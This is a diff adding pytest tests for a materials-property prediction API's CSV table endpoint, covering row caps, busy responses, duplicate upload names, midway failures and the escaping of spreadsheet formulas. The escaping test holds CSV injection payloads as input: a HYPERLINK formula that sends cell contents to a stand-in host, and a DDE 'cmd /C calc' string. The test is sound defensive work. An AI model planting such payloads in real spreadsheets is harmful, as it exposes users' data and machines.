@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import csv
 import gzip
+import io
 import json
 import math
 import shutil
@@ -14,6 +16,8 @@ import pytest
 from fastapi.testclient import TestClient
 
 from app.core.features import DEFAULT_LIMITS
+from app.core.model_card import HEAD_DIRNAMES
+from app.core.model_manifest import write_manifest
 from app.main import create_app
 from tests.conftest import FIXTURE_MODEL_VERSION, make_settings
 
@@ -337,6 +341,7 @@ def test_markdown_card_of_a_model_without_one_is_a_404(client: TestClient) -> No
 def test_a_markdown_card_that_is_not_utf8_is_still_served(model_dir: Path, tmp_path: Path) -> None:
     copy = shutil.copytree(model_dir, tmp_path / "model")
     (copy / "MODEL_CARD.md").write_bytes("# card of Néel temperatures\n".encode("latin-1"))
+    write_manifest(copy, HEAD_DIRNAMES)  # sealed with the card, as an export would
     with TestClient(create_app(make_settings(copy))) as client:
         response = client.get("/model/card")
     assert response.status_code == 200  # it was a 500
@@ -563,3 +568,117 @@ def test_an_integer_too_long_for_python_is_a_422_saying_so(client: TestClient, p
     response = client.post(path, content=body, headers={"content-type": "application/json"})
     assert response.status_code == 422
     assert response.json()["error"]["type"] == "number_too_long"
+
+
+# POST /predict/table: its limits, its names and what it writes into a spreadsheet.
+
+
+def _table_rows(response: Any) -> list[dict[str, str]]:
+    assert response.status_code == 200, response.text
+    return list(csv.DictReader(io.StringIO(response.text)))
+
+
+def test_a_table_over_the_row_cap_is_refused_before_any_row_is_screened(model_dir: Path) -> None:
+    with TestClient(create_app(make_settings(model_dir, max_table_rows=3))) as small:
+        four = "formula,density\n" + "NaCl,2.17\n" * 4
+        response = small.post("/predict/table", files={"file": ("big.csv", four.encode())})
+        assert response.status_code == 422
+        assert _error(response) == {
+            "type": "too_many_rows",
+            "message": "the file has more than 3 rows, the most one upload may screen; split "
+            "it, or screen it with the magorder predict command",
+            "field": "file",
+        }
+        three = "formula,density\n" + "NaCl,2.17\n" * 3
+        ok = small.post("/predict/table", files={"file": ("ok.csv", three.encode())})
+        assert len(_table_rows(ok)) == 3
+
+
+def test_table_screenings_beyond_the_cap_are_503_with_retry_after(model_dir: Path) -> None:
+    from app.api.routes.table import table_streams
+
+    with TestClient(create_app(make_settings(model_dir, max_table_streams=1))) as small:
+        upload = {"file": ("c.csv", b"formula,density\nNaCl,2.17\n")}
+        held = table_streams(small.app, 1).claim()  # type: ignore[arg-type]
+        busy = small.post("/predict/table", files=upload)
+        assert busy.status_code == 503
+        assert busy.headers["retry-after"] == "1"
+        assert _error(busy) == {
+            "type": "server_busy",
+            "message": "the server is screening 1 tables, its most at once; retry shortly",
+        }
+        held.release()
+        for _ in range(3):  # each screening gives its place back, refused ones included
+            assert len(_table_rows(small.post("/predict/table", files=upload))) == 1
+            bad = small.post("/predict/table", files={"file": ("x.csv", b"name\nNiO\n")})
+            assert bad.status_code == 422
+
+
+def test_uploads_sharing_a_name_are_each_screened_with_their_own_content(
+    client: TestClient,
+) -> None:
+    from tests.test_structures import rock_salt
+
+    salt = rock_salt(5.64, "Na", "Cl").to(fmt="poscar")
+    nio = rock_salt().to(fmt="poscar")
+    names = ["POSCAR", "POSCAR", "./POSCAR", "a//POSCAR"]
+    texts = [salt, nio, nio, salt]
+    files = [("files", (name, text)) for name, text in zip(names, texts, strict=True)]
+    rows = _table_rows(client.post("/predict/table", files=files))
+    # The names as uploaded (once a KeyError for ./POSCAR), each with its own structure.
+    assert [r["file"] for r in rows] == names
+    assert [r["reduced_formula"] for r in rows] == ["NaCl", "NiO", "NiO", "NaCl"]
+    assert all(r["error"] == "" for r in rows)
+
+
+def test_table_cells_a_spreadsheet_would_run_come_back_as_text(client: TestClient) -> None:
+    text = (
+        "id,formula,density,note,energy\n"
+        '"=HYPERLINK(""http://x.invalid/?a=""&A1,""x"")",NaCl,2.17,"+cmd|\' /C calc\'!A0",-1.5\n'
+        "@SUM(1),=1+1,2.17,\tx,+2e3\n"
+    )
+    rows = _table_rows(client.post("/predict/table", files={"file": ("c.csv", text.encode())}))
+    assert rows[0]["id"] == '\'=HYPERLINK("http://x.invalid/?a="&A1,"x")'
+    assert rows[0]["note"] == "'+cmd|' /C calc'!A0"
+    assert rows[1]["id"] == "'@SUM(1)"
+    assert rows[1]["formula"] == "'=1+1"
+    assert rows[1]["note"] == "'\tx"
+    # Numbers stay numbers, the input's own and the probabilities alike.
+    assert [r["energy"] for r in rows] == ["-1.5", "+2e3"]
+    assert float(rows[0]["p_FM"]) >= 0
+    # The error echoes the formula inside its text: it does not begin a cell with "=".
+    assert rows[1]["error"].startswith("invalid formula '=1+1'")
+    files = [("files", ("=cmd.cif", "data_junk\n")), ("files", ("@x.cif", "data_junk\n"))]
+    named = _table_rows(client.post("/predict/table", files=files))
+    assert [r["file"] for r in named] == ["'=cmd.cif", "'@x.cif"]
+
+
+def test_a_screening_that_fails_midway_ends_with_a_row_saying_it_stopped(
+    model_dir: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from app.api.routes.table import STOPPED_PREFIX
+    from app.client.backends import LocalBackend
+
+    predict = LocalBackend.predict
+    calls = []
+
+    def fail_second_chunk(self: LocalBackend, queries: Any) -> Any:
+        calls.append(len(queries))
+        if len(calls) == 2:
+            raise RuntimeError("the parser fell over")
+        return predict(self, queries)
+
+    monkeypatch.setattr(LocalBackend, "predict", fail_second_chunk)
+    settings = make_settings(model_dir, max_batch_size=2, max_table_streams=1)
+    with TestClient(create_app(settings)) as small:
+        text = "id,formula,density\n" + "".join(f"c{i},NaCl,2.17\n" for i in range(5))
+        response = small.post("/predict/table", files={"file": ("c.csv", text.encode())})
+        rows = _table_rows(response)
+        assert [r["id"] for r in rows] == ["c0", "c1", ""]
+        assert all(r["prediction"] for r in rows[:2])
+        assert rows[2]["error"].startswith(f"{STOPPED_PREFIX} an internal error")
+        assert set(rows[2].values()) == {"", rows[2]["error"]}
+        # Its place in the pool came back: the next screening is not refused as busy.
+        monkeypatch.setattr(LocalBackend, "predict", predict)
+        again = small.post("/predict/table", files={"file": ("c.csv", text.encode())})
+        assert len(_table_rows(again)) == 5
